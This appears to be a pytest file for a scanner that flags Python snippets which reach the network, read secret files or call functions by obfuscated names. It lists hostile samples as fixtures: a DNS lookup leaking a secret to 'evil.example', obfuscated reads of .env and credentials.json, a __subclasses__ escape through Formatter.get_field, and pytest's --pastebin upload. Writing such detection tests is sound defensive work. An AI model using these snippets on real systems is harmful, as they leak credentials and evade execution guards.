"""Whole programs of Python: a package that Aver does not know may compute, and not reach out."""

from __future__ import annotations

from aver.gate.effects.python_code.program import scan_python_program
from support.many_cases import for_each

REACHING = [
    "import niquests; niquests.get('x')",
    "import niquests as n; n.post(url, data)",
    "from niquests import get as g; g('evil.example')",
    "import whois; whois.whois('evil.example')",
    "import dns_thing; dns_thing.resolve(secret + '.evil.example')",
    "import evilpkg; evilpkg.Client('10.0.0.1:80').hello()",
    "import evilpkg; c = evilpkg.Thing(); c.connect('h')",
    "import evilpkg; evilpkg.run('id')",
    "from evilpkg import shell; shell('id')",
    "from evilpkg.tools import run as go; go('id')",
    "import evilpkg; evilpkg.api.v1.run('id')",
    "import evilpkg; evilpkg.make().send(1)",
    "import evilpkg; [f.upload('x') for f in evilpkg.all()]",
    "import evilpkg; x = evilpkg.Mail('a@evil.example')",
    "from django.core.management import call_command; call_command('shell')",
    "import sympy; sympy.sympify('x')",
    "from transformers import AutoModel; AutoModel.from_pretrained('x')",
    "import evilpkg; evilpkg.session().go()",
    "import evilpkg; e = evilpkg; e.run('x')",
    "import evilpkg; f = evilpkg.run; f('x')",
    "from evilpkg import *; run('x')",
    "import evilpkg; getattr(evilpkg, 'r' + 'un')('x')",
    "import evilpkg.sub as e; e.push('x')",
    "from evilpkg import Client",
    "import evilpkg; evilpkg.Session",
    "import numpy; import evilpkg; evilpkg.fetch(numpy.array([1]))",
    "import evilpkg; x = evilpkg.thing; x.sendall(b'1')",
    "import evilpkg; print(evilpkg.lookup('a'))",
]
COMPUTING = [
    "import pvlib; print(pvlib.spa.calculate(1, 2))",
    "from src.app import total; print(total([1, 2]))",
    "import numpy as np; print(np.array([1]).sum())",
    "import pandas as pd; print(pd.DataFrame({'a': [1]}).head())",
    "import shop; print(shop.__version__)",
    "from astroid import parse; print(parse('x = 1'))",
    "import fasttext; print(fasttext.__file__)",
    "import django; print(django.VERSION)",
    "import shop; print(shop.price('data.csv'))",
    "from shop.models import Order; o = Order(1); o.save_all(); print(o)",
    "import jsonschema; jsonschema.validate({}, {})",
    "import sympy; print(sympy.Symbol('x') + 1)",
]


@for_each(REACHING)
def test_a_package_that_may_reach_out_is_found(program: str) -> None:
    assert scan_python_program(program, is_inside=lambda path: True)


@for_each(COMPUTING)
def test_a_package_that_computes_is_not(program: str) -> None:
    assert scan_python_program(program, is_inside=lambda path: True) == ()


@for_each(REACHING)
def test_a_module_beside_the_program_is_of_the_workspace(program: str) -> None:
    found = scan_python_program(program, is_inside=lambda path: True, is_own_module=lambda name: name == "evilpkg")
    assert not any("does not know" in reach.word for reach in found) or "evilpkg" not in program


def test_modules_are_imported_from_the_workspace_alone() -> None:
    def scan(program: str) -> tuple[object, ...]:
        return scan_python_program(
            program,
            is_inside=lambda path: path.startswith(("/work", "/tmp", ".")),
            may_import=lambda path: path.startswith(("/work", ".")),
        )

    assert scan("import sys; sys.path.insert(0, '/tmp/x'); import helper")
    assert scan("from sys import path; path.append('/tmp/x'); import helper")
    assert not scan("import sys; sys.path.insert(0, '/work/src'); import helper")
    assert not scan("print(open('/tmp/x.txt').read())")


HIDDEN_FILES = (
    "print(open(file='.'+'env').read())",
    "print(open('server.pem').read())",
    "print(open('credentials.json').read())",
    "import pathlib; [print(p.read_text()) for p in pathlib.Path('.').iterdir()]",
    "import pathlib; [print(p.read_text()) for p in pathlib.Path('.').rglob('*')]",
    "import pathlib; [print(p.read_bytes()) for p in pathlib.Path('.').glob('*nv')]",
    "import pathlib; print(pathlib.Path('x').with_name('.e'+'nv').read_text())",
    "import pathlib; print(pathlib.Path('.').__truediv__('.e'+'nv').read_text())",
    "import pathlib; print(type(pathlib.Path('x'))('.e'+'nv').read_text())",
    "import pathlib; print(pathlib.Path('x').__class__('.e'+'nv').read_text())",
    "__file__ = '.e'+'nv'; print(open(__file__).read())",
    "import traceback; print(traceback.FrameSummary('.e'+'nv', 1, 'f').line)",
    "import warnings; warnings.warn_explicit('m', UserWarning, '.e'+'nv', 1)",
    "import inspect, types; m = types.ModuleType('x'); m.__file__ = '.e'+'nv'; print(inspect.getsource(m))",
    "import numpy as np; print(np.memmap('.e'+'nv', dtype='u1', mode='r').tobytes())",
    "import pandas as pd; print(pd.read_fwf('.e'+'nv'))",
    "import shlex; s = shlex.shlex(x); s.source = 'source'; print(list(s))",
)
"""Each reads a file that its text does not name, or a guarded one."""

HIDDEN_CALLS = (
    "import string; f = string.Formatter().get_field; print(f('0.__class__.__base__.__sub'+'classes__', [1], {})[0]())",
    "from string import Formatter; print(Formatter().get_field(x, [1], {}))",
    "from unittest import mock; print(mock.patch('o'+'s.sys'+'tem').get_original())",
    "import pydantic; print(pydantic.TypeAdapter(pydantic.ImportString).validate_python(x))",
    "import numpy as np; np.testing.measure(x)",
    "import pygments.lexers as p; p.load_lexer_from_file('notes.txt')",
    "import pytest; pytest.main(['--pastebin=all'])",
    "import pytest; pytest.main(['/tmp/x'])",
    "import pytest; pytest.main(['--junitxml=src/app.py'])",
    "import pytest; pytest.main(['-p', 'evil'])",
    "import pytest; pytest.main()",
    "import pytest as p; p.main(['-q'])",
    "from pytest import main; main(['--pastebin=all'])",
    "import pytest; m = pytest.main; m(['--pastebin=all'])",
    "import unittest; unittest.main(module=None)",
    "import unittest; unittest.main(module=None, argv=['x', 'discover', '-s', '/tmp/x'])",
    "import logging.handlers as h; h.BaseRotatingHandler('src/app.py', 'a')",
)
"""Each finds a function by a text, writes a file, or starts tests with options that are not plain."""

PLAIN_FILES = (
    "import pathlib\nfor p in pathlib.Path('src').rglob('*.py'): print(p.read_text())",
    "import pathlib\nfor p in pathlib.Path('.').iterdir(): print(p.name)",
    "import pathlib; print(pathlib.Path('src/app.py').with_suffix('.md').read_text())",
    "print(open(file='src/app.py', encoding='utf-8').read())",
    "import json; print(json.load(open('package.json')))",
    "import pandas as pd; print(pd.read_csv('data.csv', sep=';').to_string())",
    "import shlex; print(shlex.split('a b'))",
    "import pathlib; print(type(pathlib.Path('x')).__name__, pathlib.Path('x').read_text())",
    "import pytest; pytest.main([__file__, '-v'])",
    "import pytest; pytest.main(['tests/test_app.py::test_x', '-q', '--tb=short'])",
    "import unittest\nclass T(unittest.TestCase): pass\nunittest.main(verbosity=2)",
    "import traceback; traceback.print_exc()",
)


def is_unguarded(path: str) -> bool:
    """Whether a path is of the workspace, and of no secret of these tests."""
    return not path.startswith(("/", ".e")) and path not in ("server.pem", "credentials.json")


@for_each((*HIDDEN_FILES, *HIDDEN_CALLS))
def test_a_file_or_a_function_that_the_text_does_not_name_is_found(program: str) -> None:
    assert scan_python_program(program, is_inside=is_unguarded)


@for_each(PLAIN_FILES)
def test_a_file_by_a_plain_name_is_read(program: str) -> None:
    assert scan_python_program(program, is_inside=is_unguarded) == ()
